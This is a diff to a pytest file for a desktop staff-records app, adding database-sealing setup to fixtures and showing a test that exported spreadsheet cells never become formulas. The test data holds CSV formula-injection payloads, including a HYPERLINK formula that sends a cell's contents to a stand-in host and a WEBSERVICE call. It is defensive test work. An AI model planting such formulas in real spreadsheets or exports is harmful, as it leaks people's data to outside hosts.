@@ -11,12 +11,15 @@ import pytest
 from openpyxl import load_workbook
 
 from desktop_app.app import main
+from desktop_app.storage.database import open_store
+from tests.sealing import office_key
 from tests.services.test_staff_import import GOOD, RU_HEADER, write_csv
 
 
 @pytest.fixture
 def office(tmp_path: Path) -> Path:
     db = tmp_path / "office.sqlite"
+    open_store(db, office_key()).close()  # sealed with the tests' key; commands open it with $BAGALAU_PASSWORD
     assert main(["import-staff", "--db", str(db), str(write_csv(tmp_path / "staff.csv", [RU_HEADER, *GOOD]))]) == 0
     return db
 
@@ -89,6 +92,7 @@ def test_encrypted_copy_with_an_altered_cost_is_refused_at_once(office: Path, tm
 
 def test_exported_cells_are_never_formulas(tmp_path: Path) -> None:
     db = tmp_path / "office.sqlite"
+    open_store(db, office_key()).close()
     hostile = [["791028302728", "=HYPERLINK(\"http://x.example/?\"&A2;\"Иванов\")", "Сергей", "", "+Отдел",
                 "@Руководитель", "E-R-3", "да", "10.01.2020"],
                ["920515400008", "-Петрова", "Анна", "", "=WEBSERVICE(\"http://x.example\")", "Главный специалист",
